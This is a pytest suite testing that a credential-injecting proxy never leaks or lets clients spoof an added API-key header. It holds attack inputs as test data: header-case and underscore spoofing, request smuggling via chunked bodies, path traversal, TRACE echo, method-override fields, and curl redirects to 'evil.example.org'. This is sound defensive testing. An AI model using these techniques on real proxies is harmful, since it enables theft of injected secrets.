"""Attacks on headers that the proxy adds: the client's own of that name, in every spelling, and ways for the value to get elsewhere.

Judged by what the servers got: of the added name one field, the value's; and the value on no other host and nowhere inside.
"""
import json

import pytest

from helpers import requirement
from helpers.h2 import HOST
from helpers.vaulted import OK, VALUE, Vaulted, fields

pytestmark = [requirement("R13", "R16"), pytest.mark.root]
EVIL = "evil.example.org"
SECOND = "second.example.org"

# Fields that a client sends beside what is added, as X-Api-Key.
FIELDS = {
    "own": "X-Api-Key: mine",
    "lower": "x-api-key: mine",
    "twice": "X-Api-Key: mine\r\nX-API-KEY: mine",
    "underscore": "X_Api_Key: mine",
    "mixed": "x-api_key: mine\r\nX_API-KEY: mine",
    "hop": "Connection: X-Api-Key",
    "hop and own": "Connection: keep-alive, x-api-key\r\nX-Api-Key: mine",
    "proxy hop": "Proxy-Connection: x-api-key",
    "trailer": "Trailer: X-Api-Key",
    "empty": "X-Api-Key:",
    "long": "X-Api-Key: " + "m" * 8000,
    "many": "\r\n".join(["X-Api-Key: mine"] * 60),
    "every case": "\r\n".join("".join(c.upper() if i >> k & 1 else c for k, c in enumerate("x-api-key")) + ": mine" for i in range(1, 60)),
}
# ... and what is refused or goes out without it.
BROKEN = {
    "blank before the colon": "X-Api-Key : mine",
    "folded": "X-Other: a\r\n X-Api-Key: mine",
    "bare line feed": "X-Other: a\nX-Api-Key: mine",
    "carriage return": "X-Other: a\rX-Api-Key: mine",
    "nul": "X-Other: a\0X-Api-Key: mine",
}
EACH = """
def each(cases):
    for name, lines in cases.items():
        try:
            s = tls(socket.create_connection(('ok.example.org', 443)), 'ok.example.org')
            s.sendall(get('ok.example.org', '/headers?' + name.replace(' ', '-'), lines + '\\r\\n' + CLOSE))
            print(name, drain(s, 30))
        except OSError as e: print(name, e)
"""


@pytest.fixture
def vaulted(online, tmp_path):
    return Vaulted(online, tmp_path).adds(add="X-Api-Key: {}")


def alike(request):
    """Fields that a server may take for X-Api-Key."""
    return [v for k, v in request["headers"] if k.replace("_", "-") == "x-api-key"]


def test_the_clients_own_never_arrives(vaulted):
    result = vaulted.python(EACH + f"each({ {**FIELDS, **BROKEN}!r})")
    assert result.ok and VALUE not in result.out, result
    got = {r["path"].split("?")[1].replace("-", " "): alike(r) for r in vaulted.net.requests}
    assert set(FIELDS) - {"every case"} <= set(got), (set(FIELDS) - set(got), result)
    assert {tuple(v) for v in got.values()} == {(VALUE,)}, got


def test_nor_in_http2(h2):
    h2.adds(host=HOST, add="X-Api-Key: {}")
    cases = {name: [tuple(line.split(":", 1)) for line in lines.split("\r\n")] for name, lines in FIELDS.items()}
    result = h2.client(f"""
for name, more in {cases!r}.items():
    c = Client()
    print(name, c.brief(c.get('/?' + name.replace(' ', '-'), [(k.lower(), v.strip()) for k, v in more])))
c = Client()
n = c.ask('/trailer', body=b'x', method='POST', trailers=[('x-api-key', 'mine'), ('x_api-key', 'mine'), ('x-other', 'kept')])
print('behind', c.brief(c.wait(n)[0]))
""")
    assert result.ok and "behind 200" in result.out, result
    assert len(h2.far.requests) > 8, (h2.far.requests, result)
    for request in h2.far.requests:
        assert [v for k, v in request["headers"] if k.replace("_", "-") == "x-api-key"] == [VALUE], request
    assert "mine" not in h2.far.log.read_text(), h2.far.log.read_text()
    assert VALUE not in result.out


def test_it_goes_to_no_other_host(vaulted):
    """Redirects, other names on the same connection, absolute forms, and Host that says another."""
    vaulted.net.says["/away"] = (302, [("Location", f"https://{EVIL}/stolen")])
    result = vaulted.sh(f"""curl -sS -L --location-trusted -o /dev/null https://{OK}/away
        curl -sS -o /dev/null --connect-to {OK}:443:{EVIL}:443 -k https://{OK}/other-address
        curl -sS -o /dev/null -H 'Host: {EVIL}' https://{OK}/other-host
        curl -sS -o /dev/null http://{OK}/plain
        curl -sS -o /dev/null -x http://198.18.0.1:3128 http://{OK}:443/plain-at-443
        curl -sS -o /dev/null --request-target https://{EVIL}/absolute https://{OK}/
        curl -sS -o /dev/null --request-target http://{EVIL}/absolute https://{OK}/
        curl -sS -o /dev/null --request-target https://{OK}/absolute-own https://{OK}/
        curl -sS -o /dev/null --resolve {EVIL}:443:198.18.0.9 https://{EVIL}/direct""", allow=(OK, EVIL, SECOND))
    with_it = [(r["tls"], r["host"], r["sni"]) for r in vaulted.net.requests if VALUE in json.dumps(r["headers"])]
    assert with_it and set(with_it) <= {(True, OK, OK)}, (with_it, result)
    assert VALUE not in result.out + result.err


@pytest.mark.parametrize("ahead", [False, True], ids=["one after the other", "sent ahead"])
def test_each_request_of_a_connection_is_judged_by_itself(online, tmp_path, ahead):
    """Of pipelined ones those that the binding permits have it, the others what they came with."""
    vaulted = Vaulted(online, tmp_path).adds("TOK", "--path", "/v1/**", add="X-Api-Key: {}")
    result = vaulted.python(f"""
s = tls(socket.create_connection(('ok.example.org', 443)), 'ok.example.org')
sent = [get('ok.example.org', p, 'X-Api-Key: mine\\r\\n' + (CLOSE if p == '/v1/z' else ''))
        for p in ('/v1/a', '/v2/b', '/v1/../v2/c', '/v1/d', '/v1%2f..%2fv2', '/v1;/e', '/v1/z')]
if {ahead}: s.sendall(b''.join(sent)); print(drain(s, 30))
else:
    for one in sent:
        s.sendall(one); head = until(s)
        print(head, s.recv(int(dict(l.split(b': ') for l in head.split(b'\\r\\n')[1:-2])[b'Content-Length'])))""")
    got = {r["path"]: alike(r) for r in vaulted.net.requests}
    assert {p for p, v in got.items() if v == [VALUE]} == {"/v1/a", "/v1/d", "/v1/z"}, (got, result)
    assert {tuple(v) for p, v in got.items() if p not in ("/v1/a", "/v1/d", "/v1/z")} == {("mine",)}, got
    assert VALUE not in result.out


@pytest.mark.slow
def test_a_hidden_request_in_a_body_has_nothing(vaulted):
    result = vaulted.python("""
for head in ('Content-Length: 5', 'Transfer-Encoding: chunked'):
    hidden = b'GET /hidden HTTP/1.1\\r\\nHost: ok.example.org\\r\\n\\r\\n'
    s = tls(socket.create_connection(('ok.example.org', 443)), 'ok.example.org')
    body = b'hello' if head[0] == 'C' else b'5\\r\\nhello\\r\\n0\\r\\nX-Api-Key: mine\\r\\nX_Api_Key: mine\\r\\n\\r\\n'
    s.sendall(b'POST /headers HTTP/1.1\\r\\nHost: ok.example.org\\r\\n' + head.encode() + b'\\r\\n\\r\\n' + body + hidden)
    print(drain(s, 10))""")
    assert {tuple(alike(r)) for r in vaulted.net.requests} == {(VALUE,)}, (vaulted.net.requests, result)
    assert all(b"mine" not in kept for _, kept in vaulted.net.connections) and VALUE not in result.out, result


@pytest.mark.parametrize("method", ["TRACE", "trace", "OPTIONS", "DEBUG", "TRACK"])
def test_methods_that_echo_have_nothing(vaulted, method):
    result = vaulted.sh(f"curl -sS -X {method} -H 'Max-Forwards: 0' -H 'X-Api-Key: mine' https://{OK}/")
    seen = b"".join(bytes(kept) for _, kept in vaulted.net.connections)
    assert VALUE.encode() not in seen and VALUE not in result.out, (seen, result)


@pytest.mark.parametrize("how", ["", "gzip", "deflate", "base64", "percent", "header", "chunks", "bytes", "trailer", "early", "part",
                                 "lying"])
def test_no_answer_brings_it_inside(online, tmp_path, how):
    vaulted = Vaulted(online, tmp_path).adds()
    result = vaulted.sh(f"curl -sS -i --compressed 'https://{OK}/mirror/{how}?1'")
    assert fields(vaulted.net.requests[0], "authorization") == [f"Bearer {VALUE}"], result
    assert VALUE not in result.out + result.err and VALUE[3:] not in result.out, result


def test_neither_report_nor_log_nor_record_has_it(vaulted, tmp_path):
    """Names, never values: also where a request is refused and where it is asked for in detail."""
    report = tmp_path / "report.json"
    result = vaulted.sh(f"curl -sS -o /dev/null https://{OK}/headers; curl -sS -o /dev/null -d x https://{EVIL}/", flags=["--report", report])
    assert result.ok or result.code, result
    audit = vaulted.online.bare("audit", "query", "--json", env=vaulted.env)
    assert audit.ok, audit
    assert "TOK" in report.read_text() + audit.out
    for text in (report.read_text(), audit.out, audit.err, result.err):
        assert VALUE not in text


MEANT = """
ways = ['X-HTTP-Method-Override: DELETE', 'x_method_override: delete', 'X-HTTP-Method: GET\\r\\nX-HTTP-Method: PUT', 'X-Original-URL: /v1/x',
        'X-HTTP-Method-Override: POST']
def ask(field, token):
    s = ssl.create_default_context(cafile=CA).wrap_socket(socket.create_connection(('ok.example.org', 443)), server_hostname='ok.example.org')
    s.sendall(f'POST /v1/y HTTP/1.1\\r\\nHost: ok.example.org\\r\\nContent-Length: {len(token)}\\r\\nConnection: close\\r\\n{field}\\r\\n\\r\\n{token}'.encode())
    return drain(s)[9:12].decode()
for way in ways:
    print(ask(way, 'x'), ask(way, os.environ.get('BODY', '')), ask(way + '\\r\\nAuthorization: Bearer ' + os.environ.get('HEAD', ''), 'x'))
"""


def test_no_value_goes_to_what_the_fields_say(online, tmp_path):
    """The binding is for POST; a framework behind it takes a field's word for the method."""
    vaulted = Vaulted(online, tmp_path).adds("ADDED", "--method", "POST", add="X-Added: {}", value="Added-9f8E7d6C5b4A39281706zQ")
    vaulted.secret("BODY", "--method", "POST", place="body", value="Body-19f8E7d6C5b4A39281706zQ")
    vaulted.secret("HEAD", "--method", "POST", value="Head-29f8E7d6C5b4A39281706zQ")
    result = vaulted.python(MEANT)
    lines = result.out.splitlines()
    assert result.ok and len(lines) == 5 and lines[-1] == "200 200 200", result
    assert all(line.split()[0] == "200" and line.split()[-1] == "403" for line in lines[:4]), result
    for request in online.net.requests:
        means = [v for k, v in request["headers"] if k.startswith("x") and k != "x-added"]
        had = [v for k, v in request["headers"] if k == "x-added"] + [word for word in ("Body-19f8", "Head-29f8")
                                                                      if word in str(request)]
        assert bool(had) == (means == ["POST"]), request
